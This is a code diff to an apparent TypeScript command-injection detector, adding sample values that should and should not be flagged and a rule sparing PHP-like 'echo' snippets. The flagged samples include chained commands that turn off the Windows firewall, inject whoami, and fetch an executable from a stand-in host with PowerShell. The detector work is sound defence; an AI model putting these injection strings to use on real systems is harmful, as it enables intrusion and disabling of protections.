@@ -29,6 +29,8 @@ export const chainedCommand: ValueRule = {
     ';dig +short evil.example.com',
     'x|getent hosts evil.example.com',
     '10.0.0.1; . /tmp/setup',
+    '10.0.0.1 & netsh advfirewall set allprofiles state off',
+    "x') ; whoami ; (",
     'x & powershell iwr http://evil.example.com/a -OutFile a.exe',
     '; openssl s_client -connect 192.0.2.9:443',
   ],
@@ -50,6 +52,7 @@ export const chainedCommand: ValueRule = {
     'dig it; the +short list | getent hosts no party',
     'first; . then second',
     'tsc && npm run bundle',
+    '$sum = 5 + 6; echo $sum;',
     'cmd & powershell tips for beginners',
     'tls; openssl and friends',
   ],
@@ -90,6 +93,7 @@ function scoreOf(text: string, command: Command, isName: boolean): number {
   const { head } = command;
   if (isAlternative(text, command)) return 35;
   if (loopWords.has(command.name) && script.test(text)) return 60;
+  if (command.name === 'echo' && program.test(text)) return 60;
   const isValue = followsValue(text, head.start);
   switch (command.fit) {
     case fit.full:
@@ -112,6 +116,9 @@ function scoreOf(text: string, command: Command, isName: boolean): number {
 const loopWords: ReadonlySet<string> = new Set(['do', 'then', 'else']);
 /** A script that somebody shows: its loop begins the text. */
 const script = /^\s{0,4}(?:for|while|until|if|select)\s/;
+
+/** `$x = 5; echo $x;`: PHP that somebody shows. */
+const program = /^\s{0,4}\$\w{1,40} {0,2}=[^=][^;|&]{0,80}; {0,2}echo \$\w{1,40} {0,2};?\s{0,4}$/;
 
 /** `(cat|dir)`: words of a regular expression. */
 function isAlternative(text: string, { head, end, fit: found }: Command): boolean {
